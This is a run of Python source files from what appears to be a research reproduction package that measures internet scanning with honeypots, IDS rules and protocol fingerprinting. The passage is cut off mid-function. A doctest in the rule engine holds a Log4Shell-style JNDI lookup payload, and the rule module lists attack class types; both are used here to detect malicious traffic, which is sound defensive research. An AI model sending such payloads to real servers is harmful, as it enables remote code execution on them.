    "table01_vantage_points", "table02_neighborhoods", "table03_search_engines",
    "table04_geo_most_different", "table05_geo_similarity", "table06_colocated",
    "table07_network_types", "table08_telescope_overlap", "table09_attacker_overlap",
    "table10_telescope_as", "table11_unexpected_protocols",
    "ALL_EXPERIMENTS",
]


def _all_experiments():
    from repro.experiments import (
        ext_blocklists,
        ext_campaigns,
        ext_closed_loop,
        ext_recommendations,
        ext_temporal_stability,
        temporal,
    )

    return {
        "T1": table01_vantage_points.run,
        "T2": table02_neighborhoods.run,
        "T3": table03_search_engines.run,
        "T4": table04_geo_most_different.run,
        "T5": table05_geo_similarity.run,
        "T6": table06_colocated.run,
        "T7": table07_network_types.run,
        "T8": table08_telescope_overlap.run,
        "T9": table09_attacker_overlap.run,
        "T10": table10_telescope_as.run,
        "T11": table11_unexpected_protocols.run,
        "F1": figure01_address_structure.run,
        "M1": method_maliciousness.run,
        "T12": temporal.run_table12,
        "T13": temporal.run_table13,
        "T14": temporal.run_table14,
        "T15": temporal.run_table15,
        "T16": temporal.run_table16,
        "T17": temporal.run_table17,
        "X1": ext_blocklists.run,
        "X2": ext_campaigns.run,
        "X3": ext_temporal_stability.run,
        "X4": ext_recommendations.run,
        "X5": ext_closed_loop.run,
    }


ALL_EXPERIMENTS = _all_experiments()
