"""Table 1: vantage points and the unique scanners each network sees."""

from __future__ import annotations

from typing import Optional

from repro.analysis.summary import vantage_summary
from repro.experiments.base import ExperimentOutput, resolve_context
from repro.experiments.context import ExperimentContext
from repro.reporting.tables import render_table


def run(context: Optional[ExperimentContext] = None) -> ExperimentOutput:
    context = resolve_context(context)
    rows = vantage_summary(context.dataset)
    text = render_table(
        ["Network", "Collection", "#Regions", "#Vantage IPs", "#Scan IPs", "#Scan ASes"],
        [
            (r.network, r.collection, r.num_regions, r.num_vantage_ips,
             r.unique_scan_ips, r.unique_scan_ases)
            for r in rows
        ],
    )
    return ExperimentOutput("T1", "Vantage points", text, rows)
