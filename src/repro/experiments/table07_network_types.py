"""Table 7 (and Table 14's temporal repeat): differences across network
types (cloud-cloud, cloud-EDU, EDU-EDU)."""

from __future__ import annotations

from typing import Optional

from repro.analysis.networks import network_type_report
from repro.experiments.base import ExperimentOutput, resolve_context
from repro.experiments.context import ExperimentContext
from repro.reporting.tables import phi_cell, render_table
from repro.stats.contingency import cramers_v_magnitude


def run(context: Optional[ExperimentContext] = None, year: int = 2021) -> ExperimentOutput:
    context = resolve_context(context, year=year)
    cells = network_type_report(context.dataset)
    rows = []
    for cell in cells:
        if not cell.measurable:
            rows.append((cell.comparison, cell.slice_name, cell.characteristic, "x", "x"))
            continue
        rows.append(
            (
                cell.comparison,
                cell.slice_name,
                cell.characteristic,
                f"{cell.num_different}/{cell.num_pairs}",
                phi_cell(cell.avg_phi, cramers_v_magnitude(cell.avg_phi, 2)),
            )
        )
    text = render_table(
        ["Comparison", "Slice", "Characteristic", "# dif. pairs", "Avg. phi"], rows
    )
    return ExperimentOutput("T7" if year == 2021 else "T14",
                            f"Network-type differences ({year})", text, cells)
