"""LZR-style first-payload protocol fingerprinting.

Section 6 uses LZR to identify which application protocol a scanner
actually spoke after the handshake, independent of the destination port's
IANA assignment.  Like LZR, classification is structural — each signature
checks wire-format invariants of the protocol's first client message, not
the corpus that generated it.

Signature order matters: text protocols that embed each other's keywords
(HTTP/RTSP/SIP) are disambiguated by their version tokens before generic
fallbacks run.
"""

from __future__ import annotations

from typing import Optional

__all__ = ["fingerprint", "FINGERPRINT_PROTOCOLS"]

_HTTP_METHODS = (
    b"GET ",
    b"POST ",
    b"HEAD ",
    b"OPTIONS ",
    b"PUT ",
    b"DELETE ",
    b"PATCH ",
    b"CONNECT ",
    b"TRACE ",
)


def _is_http(payload: bytes) -> bool:
    if not payload.startswith(_HTTP_METHODS):
        return False
    first_line = payload.split(b"\r\n", 1)[0]
    return b"HTTP/" in first_line


def _is_rtsp(payload: bytes) -> bool:
    first_line = payload.split(b"\r\n", 1)[0]
    return b"RTSP/1.0" in first_line or payload.startswith(b"OPTIONS rtsp://")


def _is_sip(payload: bytes) -> bool:
    first_line = payload.split(b"\r\n", 1)[0]
    return b"SIP/2.0" in first_line


def _is_tls(payload: bytes) -> bool:
    # TLS record: handshake(22), version major 3, then a ClientHello(1).
    return (
        len(payload) >= 6
        and payload[0] == 0x16
        and payload[1] == 0x03
        and payload[5] == 0x01
    )


def _is_ssh(payload: bytes) -> bool:
    return payload.startswith(b"SSH-")


def _is_telnet(payload: bytes) -> bool:
    # Telnet option negotiation: IAC (255) followed by a verb in 251-254.
    return len(payload) >= 2 and payload[0] == 0xFF and 251 <= payload[1] <= 254


def _is_smb(payload: bytes) -> bool:
    if b"\xffSMB" in payload[:12] or b"\xfeSMB" in payload[:12]:
        return True
    return False


def _is_ntp(payload: bytes) -> bool:
    # 48-byte packet whose first byte has mode 3 (client) and version 1-4.
    if len(payload) != 48:
        return False
    mode = payload[0] & 0x07
    version = (payload[0] >> 3) & 0x07
    return mode == 3 and 1 <= version <= 4


def _is_rdp(payload: bytes) -> bool:
    # TPKT header (3, 0) with an X.224 connection request (0xE0).
    return (
        len(payload) >= 7
        and payload[0] == 0x03
        and payload[1] == 0x00
        and payload[5] == 0xE0
    )


def _is_adb(payload: bytes) -> bool:
    return payload.startswith(b"CNXN")


def _is_fox(payload: bytes) -> bool:
    return payload.startswith(b"fox ")


def _is_redis(payload: bytes) -> bool:
    if payload.startswith((b"*", b"$")):
        return b"\r\n" in payload
    command = payload.split(b"\r\n", 1)[0].upper()
    return command in (b"PING", b"INFO", b"CONFIG GET *", b"QUIT")


def _is_sql(payload: bytes) -> bool:
    # MSSQL TDS pre-login: type 0x12, status 0x01, big-endian length sane.
    if len(payload) >= 8 and payload[0] == 0x12 and payload[1] == 0x01:
        length = int.from_bytes(payload[2:4], "big")
        return 8 <= length <= 4096
    return False


#: Ordered (protocol, predicate) table.  Specific binary formats first,
#: then text protocols, then permissive fallbacks.
_SIGNATURES: tuple[tuple[str, object], ...] = (
    ("tls", _is_tls),
    ("ssh", _is_ssh),
    ("telnet", _is_telnet),
    ("smb", _is_smb),
    ("rdp", _is_rdp),
    ("adb", _is_adb),
    ("fox", _is_fox),
    ("sql", _is_sql),
    ("ntp", _is_ntp),
    ("rtsp", _is_rtsp),
    ("sip", _is_sip),
    ("http", _is_http),
    ("redis", _is_redis),
)

FINGERPRINT_PROTOCOLS: tuple[str, ...] = tuple(name for name, _ in _SIGNATURES)


def fingerprint(payload: bytes) -> Optional[str]:
    """Identify the protocol of a first payload.

    Returns the protocol name, ``"unknown"`` for non-empty payloads that
    match no signature, or ``None`` for empty payloads (no data to
    fingerprint — e.g. anything a telescope captured).
    """
    if not payload:
        return None
    for name, predicate in _SIGNATURES:
        if predicate(payload):  # type: ignore[operator]
            return name
    return "unknown"
