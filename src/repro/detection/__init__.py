"""Detection stack: IDS rules, protocol fingerprinting, reputation."""

from repro.detection.classify import (
    MaliciousnessClassifier,
    Reputation,
    ReputationOracle,
    VETTED_BENIGN_ASES,
    is_malicious_event,
)
from repro.detection.engine import Alert, RuleEngine, load_default_rules
from repro.detection.fingerprint import FINGERPRINT_PROTOCOLS, fingerprint
from repro.detection.rules import ALLOWED_CLASSTYPES, Rule, RuleParseError, parse_rule, parse_rules

__all__ = [
    "MaliciousnessClassifier", "Reputation", "ReputationOracle",
    "VETTED_BENIGN_ASES", "is_malicious_event",
    "Alert", "RuleEngine", "load_default_rules",
    "FINGERPRINT_PROTOCOLS", "fingerprint",
    "ALLOWED_CLASSTYPES", "Rule", "RuleParseError", "parse_rule", "parse_rules",
]
