"""Suricata-style IDS rule DSL: parsing and matching.

The paper labels non-authentication-based payloads as malicious with
Suricata, filtered to a manually-vetted subset of rules limited to eight
class types (Section 3.2).  This module implements the subset of the rule
language those vetted rules need:

* header: ``alert <proto> <src> <src_port> -> <dst> <dst_port>``
* options: ``msg``, ``content`` (with ``nocase``), ``pcre``,
  ``classtype``, ``sid``, ``rev``

A rule alerts on a payload when every ``content`` string is present (in
order-independent fashion, as we match single-packet payloads) and every
``pcre`` matches.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Optional

__all__ = ["Rule", "RuleParseError", "parse_rule", "parse_rules", "ALLOWED_CLASSTYPES"]

#: The paper's vetted Suricata class types (Section 3.2).
ALLOWED_CLASSTYPES: frozenset[str] = frozenset(
    {
        "trojan-activity",
        "web-application-attack",
        "protocol-command-decode",
        "attempted-user",
        "attempted-admin",
        "attempted-recon",
        "bad-unknown",
        "misc-activity",
    }
)

_HEADER_RE = re.compile(
    r"^(?P<action>alert|drop|pass)\s+(?P<proto>\w+)\s+(?P<src>\S+)\s+(?P<src_port>\S+)"
    r"\s*->\s*(?P<dst>\S+)\s+(?P<dst_port>\S+)\s*\((?P<options>.*)\)\s*$"
)


class RuleParseError(ValueError):
    """Raised when a rule line cannot be parsed."""


@dataclass(frozen=True)
class ContentMatch:
    """One ``content`` option, optionally case-insensitive."""

    needle: bytes
    nocase: bool = False

    def matches(self, payload: bytes) -> bool:
        if self.nocase:
            return self.needle.lower() in payload.lower()
        return self.needle in payload


@dataclass(frozen=True)
class Rule:
    """One parsed rule."""

    action: str
    protocol: str
    dst_ports: frozenset[int] | None  # None means "any"
    msg: str
    classtype: str
    sid: int
    contents: tuple[ContentMatch, ...] = ()
    pcres: tuple[re.Pattern, ...] = ()
    rev: int = 1

    def applies_to_port(self, port: int) -> bool:
        return self.dst_ports is None or port in self.dst_ports

    def matches(self, payload: bytes, dst_port: Optional[int] = None) -> bool:
        """Does the rule alert on this payload (optionally port-filtered)?"""
        if not payload:
            return False
        if dst_port is not None and not self.applies_to_port(dst_port):
            return False
        if not self.contents and not self.pcres:
            return False
        for content in self.contents:
            if not content.matches(payload):
                return False
        for pattern in self.pcres:
            if pattern.search(payload) is None:
                return False
        return True


def _decode_content(raw: str) -> bytes:
    """Decode a Suricata content string, including ``|xx xx|`` hex runs."""
    out = bytearray()
    index = 0
    while index < len(raw):
        char = raw[index]
        if char == "|":
            end = raw.index("|", index + 1)
            hex_run = raw[index + 1 : end].split()
            out.extend(int(byte, 16) for byte in hex_run)
            index = end + 1
        elif char == "\\" and index + 1 < len(raw):
            out.append(ord(raw[index + 1]))
            index += 2
        else:
            out.append(ord(char))
            index += 1
    return bytes(out)


def _parse_ports(spec: str) -> frozenset[int] | None:
    if spec in ("any", "$HTTP_PORTS", "$PORTS"):
        return None
    spec = spec.strip("[]")
    ports: set[int] = set()
    for part in spec.split(","):
        part = part.strip()
        if ":" in part:
            low_text, _, high_text = part.partition(":")
            low = int(low_text) if low_text else 0
            high = int(high_text) if high_text else 65535
            ports.update(range(low, high + 1))
        else:
            ports.add(int(part))
    return frozenset(ports)


def _split_options(options: str) -> list[str]:
    """Split the option body on semicolons not inside quotes."""
    parts: list[str] = []
    current: list[str] = []
    in_quotes = False
    index = 0
    while index < len(options):
        char = options[index]
        if char == '"' and (index == 0 or options[index - 1] != "\\"):
            in_quotes = not in_quotes
        if char == ";" and not in_quotes:
            parts.append("".join(current).strip())
            current = []
        else:
            current.append(char)
        index += 1
    tail = "".join(current).strip()
    if tail:
        parts.append(tail)
    return [part for part in parts if part]


def parse_rule(line: str) -> Rule:
    """Parse one rule line."""
    match = _HEADER_RE.match(line.strip())
    if match is None:
        raise RuleParseError(f"malformed rule header: {line!r}")
    options = _split_options(match.group("options"))

    msg = ""
    classtype = ""
    sid = 0
    rev = 1
    contents: list[ContentMatch] = []
    pcres: list[re.Pattern] = []
    pending_content: Optional[bytes] = None

    def flush_content(nocase: bool = False) -> None:
        nonlocal pending_content
        if pending_content is not None:
            contents.append(ContentMatch(pending_content, nocase))
            pending_content = None

    for option in options:
        key, _, value = option.partition(":")
        key = key.strip()
        value = value.strip()
        if key == "msg":
            flush_content()
            msg = value.strip('"')
        elif key == "content":
            flush_content()
            pending_content = _decode_content(value.strip('"'))
        elif key == "nocase":
            flush_content(nocase=True)
        elif key == "pcre":
            flush_content()
            body = value.strip('"')
            if not body.startswith("/"):
                raise RuleParseError(f"malformed pcre in {line!r}")
            closing = body.rindex("/")
            pattern, flags_text = body[1:closing], body[closing + 1 :]
            flags = re.IGNORECASE if "i" in flags_text else 0
            pcres.append(re.compile(pattern.encode("utf-8"), flags))
        elif key == "classtype":
            flush_content()
            classtype = value
        elif key == "sid":
            flush_content()
            sid = int(value)
        elif key == "rev":
            flush_content()
            rev = int(value)
        else:
            # Unknown options (flow, depth, metadata, ...) are tolerated,
            # matching how our vetted subset ignores flow state.
            flush_content()
    flush_content()

    if not msg:
        raise RuleParseError(f"rule missing msg: {line!r}")
    if sid == 0:
        raise RuleParseError(f"rule missing sid: {line!r}")
    if classtype not in ALLOWED_CLASSTYPES:
        raise RuleParseError(
            f"classtype {classtype!r} outside the vetted set (sid {sid})"
        )

    return Rule(
        action=match.group("action"),
        protocol=match.group("proto"),
        dst_ports=_parse_ports(match.group("dst_port")),
        msg=msg,
        classtype=classtype,
        sid=sid,
        contents=tuple(contents),
        pcres=tuple(pcres),
        rev=rev,
    )


def parse_rules(text: str) -> list[Rule]:
    """Parse a rule file body; ``#`` comments and blank lines are skipped."""
    rules: list[Rule] = []
    seen_sids: set[int] = set()
    for line_number, line in enumerate(text.splitlines(), start=1):
        line = line.strip()
        if not line or line.startswith("#"):
            continue
        try:
            rule = parse_rule(line)
        except RuleParseError as error:
            raise RuleParseError(f"line {line_number}: {error}") from None
        if rule.sid in seen_sids:
            raise RuleParseError(f"line {line_number}: duplicate sid {rule.sid}")
        seen_sids.add(rule.sid)
        rules.append(rule)
    return rules
