"""Maliciousness classification and actor reputation.

Implements the paper's Section 3.2 definitions:

* an **event** is malicious when it "(1) attempts to login or bypass
  authentication, or (2) alters the state of the service" — i.e. it
  carries credentials, or the vetted ruleset alerts on its payload;
* a **scanner** (source IP) is *malicious* when it "was seen actively
  exploiting services" anywhere in the dataset, *benign* when its
  operator is on the vetted-organization registry (GreyNoise's
  vetting process), and *unknown* otherwise;
* an *attacker* is a scanner whose malicious intent has been verified —
  the paper reserves the word for exactly this.
"""

from __future__ import annotations

import enum
from collections import defaultdict
from dataclasses import dataclass, field
from typing import Iterable, Optional

from repro.detection.engine import RuleEngine
from repro.sim.events import CapturedEvent

__all__ = [
    "Reputation",
    "VETTED_BENIGN_ASES",
    "is_malicious_event",
    "MaliciousnessClassifier",
    "ReputationOracle",
]


class Reputation(str, enum.Enum):
    """GreyNoise-style actor label."""

    BENIGN = "benign"
    MALICIOUS = "malicious"
    UNKNOWN = "unknown"

    def __str__(self) -> str:  # pragma: no cover - cosmetic
        return self.value


#: Organizations that have "undergone a rigorous vetting process":
#: Censys, Shodan, and known research/measurement scanning outfits.
VETTED_BENIGN_ASES: frozenset[int] = frozenset(
    {398324, 10439, 198605, 9009, 60068, 208843, 202425, 204428, 211252, 47890, 57523, 49870, 135377}
)


class MaliciousnessClassifier:
    """Per-event malicious/benign decisions (paper Section 3.2)."""

    def __init__(self, rule_engine: Optional[RuleEngine] = None) -> None:
        self.rule_engine = rule_engine or RuleEngine()

    def is_malicious(self, event: CapturedEvent) -> bool:
        """True when the event tries to log in or alter service state.

        Telescope events can never be classified malicious: they carry no
        payload — which is exactly the blindness Section 8 warns about.
        """
        return self.is_malicious_parts(
            event.payload, event.dst_port, event.attempted_login
        )

    def is_malicious_parts(
        self, payload: bytes, dst_port: int, attempted_login: bool
    ) -> bool:
        """Column-friendly form of :meth:`is_malicious`: the decision
        depends only on these three fields, so columnar pipelines can
        classify without materializing event objects."""
        if attempted_login:
            return True
        if payload and self.rule_engine.is_malicious(payload, dst_port):
            return True
        return False


def is_malicious_event(event: CapturedEvent, rule_engine: Optional[RuleEngine] = None) -> bool:
    """One-shot convenience wrapper over :class:`MaliciousnessClassifier`."""
    return MaliciousnessClassifier(rule_engine).is_malicious(event)


@dataclass
class ReputationOracle:
    """IP-level reputation built from observed behavior, GreyNoise-style.

    Build one by feeding every captured event (:meth:`observe`); query
    with :meth:`reputation`.  An IP seen sending even one malicious
    payload anywhere is labeled malicious; vetted organizations are
    benign; everything else is unknown — matching the 78%-unknown reality
    the paper quotes.
    """

    classifier: MaliciousnessClassifier = field(default_factory=MaliciousnessClassifier)
    _malicious_ips: set[int] = field(default_factory=set)
    _seen_ips: dict[int, int] = field(default_factory=dict)

    def observe(self, event: CapturedEvent) -> None:
        self._seen_ips[event.src_ip] = event.src_asn
        if event.src_ip not in self._malicious_ips and self.classifier.is_malicious(event):
            self._malicious_ips.add(event.src_ip)

    def observe_all(self, events: Iterable[CapturedEvent]) -> "ReputationOracle":
        for event in events:
            self.observe(event)
        return self

    def reputation(self, src_ip: int, src_asn: Optional[int] = None) -> Reputation:
        if src_ip in self._malicious_ips:
            return Reputation.MALICIOUS
        asn = src_asn if src_asn is not None else self._seen_ips.get(src_ip)
        if asn in VETTED_BENIGN_ASES:
            return Reputation.BENIGN
        return Reputation.UNKNOWN

    def malicious_ips(self) -> set[int]:
        return set(self._malicious_ips)

    def counts(self) -> dict[Reputation, int]:
        """Label distribution over all observed source IPs."""
        totals: dict[Reputation, int] = defaultdict(int)
        for src_ip, asn in self._seen_ips.items():
            totals[self.reputation(src_ip, asn)] += 1
        return dict(totals)
