"""Rule-matching engine over captured payloads.

Loads the shipped vetted ruleset by default, pre-indexes content prefixes
for cheap rejection, and memoizes verdicts per distinct payload — the
datasets contain the same payload bytes many times (the paper's analyses
repeatedly note *distinct* payload counts for this reason).
"""

from __future__ import annotations

import importlib.resources
from dataclasses import dataclass
from typing import Iterable, Optional

from repro.detection.rules import Rule, parse_rules

__all__ = ["Alert", "RuleEngine", "load_default_rules"]


def load_default_rules() -> list[Rule]:
    """Parse the ruleset shipped with the package."""
    text = (
        importlib.resources.files("repro.detection")
        .joinpath("data/cloudwatching.rules")
        .read_text(encoding="utf-8")
    )
    return parse_rules(text)


@dataclass(frozen=True)
class Alert:
    """One rule firing on one payload."""

    sid: int
    msg: str
    classtype: str


class RuleEngine:
    """Evaluate payloads against a ruleset.

    >>> engine = RuleEngine()
    >>> engine.is_malicious(b"GET / HTTP/1.1\\r\\nUser-Agent: ${jndi:ldap://x}\\r\\n\\r\\n")
    True
    >>> engine.is_malicious(b"GET / HTTP/1.1\\r\\n\\r\\n")
    False
    """

    def __init__(self, rules: Optional[Iterable[Rule]] = None) -> None:
        self._rules: list[Rule] = list(rules) if rules is not None else load_default_rules()
        self._verdict_cache: dict[tuple[bytes, Optional[int]], tuple[Alert, ...]] = {}
        # Flattened matcher table: one prebuilt Alert per rule plus its
        # match components, so the hot loop runs inline ``in``/``search``
        # checks instead of two method calls per (payload, rule).  Rules
        # with no contents and no pcres never fire (matches() contract).
        self._matchers: list[
            tuple[Alert, frozenset | None, tuple, tuple, tuple]
        ] = [
            (
                Alert(rule.sid, rule.msg, rule.classtype),
                rule.dst_ports,
                tuple(c.needle for c in rule.contents if not c.nocase),
                tuple(c.needle.lower() for c in rule.contents if c.nocase),
                rule.pcres,
            )
            for rule in self._rules
            if rule.contents or rule.pcres
        ]
        # When every rule applies to any port, verdicts are
        # port-independent: collapse the cache key so each distinct
        # payload is classified exactly once across all ports.
        self._port_blind = all(rule.dst_ports is None for rule in self._rules)

    @property
    def rules(self) -> list[Rule]:
        return list(self._rules)

    def alerts(self, payload: bytes, dst_port: Optional[int] = None) -> tuple[Alert, ...]:
        """All alerts the ruleset raises for one payload."""
        if not payload:
            return ()
        key = (payload, None if self._port_blind else dst_port)
        cached = self._verdict_cache.get(key)
        if cached is not None:
            return cached
        fired = []
        lowered: Optional[bytes] = None
        for alert, ports, needles, nocase, pcres in self._matchers:
            if ports is not None and dst_port is not None and dst_port not in ports:
                continue
            ok = True
            for needle in needles:
                if needle not in payload:
                    ok = False
                    break
            if ok and nocase:
                if lowered is None:
                    lowered = payload.lower()
                for needle in nocase:
                    if needle not in lowered:
                        ok = False
                        break
            if ok:
                for pattern in pcres:
                    if pattern.search(payload) is None:
                        ok = False
                        break
            if ok:
                fired.append(alert)
        result = tuple(fired)
        # Bound the memo: distinct payloads are few, but be safe.
        if len(self._verdict_cache) < 100_000:
            self._verdict_cache[key] = result
        return result

    def is_malicious(self, payload: bytes, dst_port: Optional[int] = None) -> bool:
        """Does any vetted rule classify this payload as state-altering or
        authority-bypassing?"""
        return bool(self.alerts(payload, dst_port))
