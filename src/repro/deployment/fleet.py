"""Vantage-point fleet construction matching the paper's Table 1.

The builders here reproduce the deployment geometry exactly:

* **GreyNoise honeypots** in AWS (16 regions), Azure (3), Google (21),
  Linode (7), and a Hurricane Electric /24 (256 IPs).  Each region hosts
  4 honeypots; all four expose the Cowrie ports (SSH 22/2222, Telnet
  23/2323) and two of them additionally expose the full popular-port set
  — the paper's "4 or 2 (HTTP)" vantage counts.
* **Honeytrap /26 networks** at Stanford and Merit plus author-deployed
  equivalents in AWS and Google near Stanford and a 2-IP Google vantage
  near Merit.
* **The Orion telescope**, address-adjacent to Merit (the paper
  hypothesizes their same-AS location explains EDU↔telescope overlap).
* **The leak-experiment groups** of Section 4.3 (control / previously
  leaked / leaked), deployed in the Stanford network.

Honeypot IPs are drawn deterministically (per seed) from each provider's
address pool so that structure-sensitive scanners see realistic octet
variety.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional

import numpy as np

from repro.honeypots.base import VantagePoint
from repro.honeypots.cowrie import COWRIE_PORTS
from repro.honeypots.greynoise import GREYNOISE_DEFAULT_PORTS, GreyNoiseStack
from repro.honeypots.honeytrap import HoneytrapStack
from repro.honeypots.telescope import TelescopeStack
from repro.net.addresses import Prefix
from repro.net.geo import region
from repro.sim.events import NetworkKind
from repro.sim.rng import RngHub

__all__ = [
    "GREYNOISE_REGIONS",
    "LeakGroup",
    "LeakExperiment",
    "Deployment",
    "build_greynoise_fleet",
    "build_honeytrap_fleet",
    "build_telescope",
    "build_leak_experiment",
    "build_full_deployment",
]

#: GreyNoise deployment regions per network (paper Table 1).
GREYNOISE_REGIONS: dict[str, tuple[str, ...]] = {
    "hurricane": ("US-OH",),
    "aws": (
        "US-OR", "US-CA", "US-GA", "SA-BR", "ME-BH", "EU-FR", "EU-IE", "EU-DE",
        "CA-TOR", "AP-AU", "AP-SG", "AP-IN", "AP-KR", "AP-JP", "AP-HK", "AF-ZA",
    ),
    "azure": ("US-TX", "AP-SG", "AP-IN"),
    "google": (
        "US-NV", "US-UT", "US-CA", "US-OR", "US-VA", "US-SC", "US-IA", "CA-QC",
        "EU-CH", "EU-NL", "EU-DE", "EU-GB", "EU-BE", "EU-FI", "AP-AU", "AP-ID",
        "AP-SG", "AP-KR", "AP-JP", "AP-HK", "AP-TW",
    ),
    "linode": ("US-CA", "US-NY", "EU-GB", "EU-DE", "AP-IN", "AP-AU", "AP-SG"),
}

#: Address pools per network (synthetic carve-outs of the provider ASes
#: registered in :mod:`repro.net.asn`).
_NETWORK_POOLS: dict[str, str] = {
    "aws": "52.0.0.0/11",
    "google": "34.64.0.0/11",
    "azure": "20.0.0.0/11",
    "linode": "45.33.0.0/17",
    "hurricane": "64.62.0.0/17",
    "stanford": "171.64.0.0/14",
    "merit": "198.108.0.0/16",
}

#: The Orion telescope lives address-adjacent to Merit (same AS region).
#: Its /24s are drawn from this /13 (198.112.0.0 – 198.119.255.255).
TELESCOPE_BASE_PREFIX = "198.112.0.0/13"

_HONEYPOTS_PER_GREYNOISE_REGION = 4
_FULL_PORT_HONEYPOTS_PER_REGION = 2


@dataclass(frozen=True)
class LeakGroup:
    """One group of 3 leaked honeypots: a single engine may index a
    single protocol/port on these IPs; everything else is blocked."""

    engine: str
    protocol: str
    port: int
    ips: tuple[int, ...]


@dataclass(frozen=True)
class LeakExperiment:
    """The Section 4.3 experiment layout."""

    control_ips: tuple[int, ...]
    previously_leaked_ips: tuple[int, ...]
    leak_groups: tuple[LeakGroup, ...]

    @property
    def leaked_ips(self) -> tuple[int, ...]:
        return tuple(ip for group in self.leak_groups for ip in group.ips)

    @property
    def all_ips(self) -> tuple[int, ...]:
        return self.control_ips + self.previously_leaked_ips + self.leaked_ips

    def group_for(self, ip: int) -> Optional[LeakGroup]:
        for group in self.leak_groups:
            if ip in group.ips:
                return group
        return None


@dataclass
class Deployment:
    """The complete deployed fleet for one simulation."""

    honeypots: list[VantagePoint] = field(default_factory=list)
    telescope: Optional[VantagePoint] = None
    leak_experiment: Optional[LeakExperiment] = None

    @property
    def all_vantages(self) -> list[VantagePoint]:
        vantages = list(self.honeypots)
        if self.telescope is not None:
            vantages.append(self.telescope)
        return vantages

    def honeypots_in(self, network: str, region_code: Optional[str] = None) -> list[VantagePoint]:
        return [
            vantage
            for vantage in self.honeypots
            if vantage.network == network
            and (region_code is None or vantage.region_code == region_code)
        ]

    def networks(self) -> list[str]:
        return sorted({vantage.network for vantage in self.honeypots})


class _AddressAllocator:
    """Deterministic, collision-free honeypot address allocation.

    Each (network, region) pair gets its own /24 slice of the network
    pool; honeypots land on randomized host octets inside it so the fleet
    contains structural variety (including occasional .0 and .255 hosts,
    which some scanners treat specially).
    """

    def __init__(self, hub: RngHub, start_indexes: Optional[dict[str, int]] = None) -> None:
        self._hub = hub
        self._start_indexes = start_indexes or {}
        self._region_counter: dict[str, int] = {}
        self._used: set[int] = set()

    def slash24_for(self, network: str, region_code: str) -> Prefix:
        pool = Prefix.parse(_NETWORK_POOLS[network])
        index = self._region_counter.setdefault(network, self._start_indexes.get(network, 0))
        self._region_counter[network] = index + 1
        base = pool.first + (index + 1) * 4096  # one /20 stride per region
        if base + 255 > pool.last:
            raise RuntimeError(f"{network} address pool exhausted")
        return Prefix(base & ~0xFF, 24)

    def pick_hosts(self, block: Prefix, count: int, tag: str) -> np.ndarray:
        rng = self._hub.fork("deploy", tag)
        hosts = rng.choice(np.arange(block.first, block.last + 1), size=count, replace=False)
        hosts = np.sort(hosts.astype(np.uint32))
        for host in hosts:
            if int(host) in self._used:
                raise RuntimeError(f"address collision at {host}")
            self._used.add(int(host))
        return hosts


def build_greynoise_fleet(hub: RngHub) -> list[VantagePoint]:
    """All GreyNoise honeypots of Table 1, one vantage point per IP."""
    allocator = _AddressAllocator(hub.subhub("greynoise"))
    vantages: list[VantagePoint] = []
    for network, region_codes in GREYNOISE_REGIONS.items():
        if network == "hurricane":
            continue  # the /24 is built below
        for region_code in region_codes:
            block = allocator.slash24_for(network, region_code)
            hosts = allocator.pick_hosts(
                block, _HONEYPOTS_PER_GREYNOISE_REGION, f"{network}:{region_code}"
            )
            for index, host in enumerate(hosts):
                ports = (
                    GREYNOISE_DEFAULT_PORTS
                    if index < _FULL_PORT_HONEYPOTS_PER_REGION
                    else frozenset(COWRIE_PORTS)
                )
                vantages.append(
                    VantagePoint(
                        vantage_id=f"gn-{network}-{region_code}-{index}",
                        network=network,
                        kind=NetworkKind.CLOUD,
                        region_code=region_code,
                        continent=region(region_code).continent.value,
                        ips=np.asarray([host], dtype=np.uint32),
                        stack=GreyNoiseStack(ports),
                    )
                )
    # Hurricane Electric: a full /24 of GreyNoise sensors.
    he_block = Prefix.parse("64.62.10.0/24")
    he_region = GREYNOISE_REGIONS["hurricane"][0]
    for offset, host in enumerate(he_block):
        vantages.append(
            VantagePoint(
                vantage_id=f"gn-hurricane-{he_region}-{offset}",
                network="hurricane",
                kind=NetworkKind.CLOUD,
                region_code=he_region,
                continent=region(he_region).continent.value,
                ips=np.asarray([host], dtype=np.uint32),
                stack=GreyNoiseStack(GREYNOISE_DEFAULT_PORTS),
            )
        )
    return vantages


#: Honeytrap deployments: (name, network, kind, region, #IPs).
_HONEYTRAP_SITES: tuple[tuple[str, str, NetworkKind, str, int], ...] = (
    ("ht-stanford", "stanford", NetworkKind.EDU, "US-WEST", 64),
    ("ht-aws-west", "aws", NetworkKind.CLOUD, "US-WEST", 64),
    ("ht-google-west", "google", NetworkKind.CLOUD, "US-WEST", 64),
    ("ht-merit", "merit", NetworkKind.EDU, "US-EAST", 64),
    ("ht-google-east", "google", NetworkKind.CLOUD, "US-EAST", 2),
)


def build_honeytrap_fleet(hub: RngHub) -> list[VantagePoint]:
    """The /26 Honeytrap networks (one vantage point per IP)."""
    # AWS/Google blocks start past the GreyNoise fleet's allocations.
    allocator = _AddressAllocator(hub.subhub("honeytrap"), {"aws": 24, "google": 24})
    vantages: list[VantagePoint] = []
    for site_id, network, kind, region_code, count in _HONEYTRAP_SITES:
        block = allocator.slash24_for(network, region_code)
        hosts = allocator.pick_hosts(block, count, site_id)
        for index, host in enumerate(hosts):
            vantages.append(
                VantagePoint(
                    vantage_id=f"{site_id}-{index}",
                    network=network,
                    kind=kind,
                    region_code=region_code,
                    continent=region(region_code).continent.value,
                    ips=np.asarray([host], dtype=np.uint32),
                    stack=HoneytrapStack(),
                )
            )
    return vantages


def build_telescope(num_slash24s: int = 16) -> VantagePoint:
    """The Orion telescope as one vantage spanning ``num_slash24s`` /24s.

    The real Orion spans 1,856 /24s (475K IPs); the default is scaled for
    tractable simulation and is a constructor parameter everywhere.

    The /24s are chosen to preserve the *address-structure variety* the
    Figure 1 analyses need even at small scale: for each /16 inside the
    telescope's /13 we include its ``x.y.0.0/24`` (containing the
    first-of-/16 address Mirai prefers) and its ``x.y.255.0/24``
    (containing any-octet-255 addresses); the remaining budget is spread
    evenly across the range.
    """
    if not 1 <= num_slash24s <= 1856:
        raise ValueError("num_slash24s must be in [1, 1856]")
    base = Prefix.parse(TELESCOPE_BASE_PREFIX)
    total_slash24s = base.num_addresses // 256

    chosen: list[int] = []  # /24 indexes within the /13
    slash16_count = total_slash24s // 256
    for slash16 in range(slash16_count):
        if len(chosen) < num_slash24s:
            chosen.append(slash16 * 256)  # x.y.0.0/24
        if len(chosen) < num_slash24s:
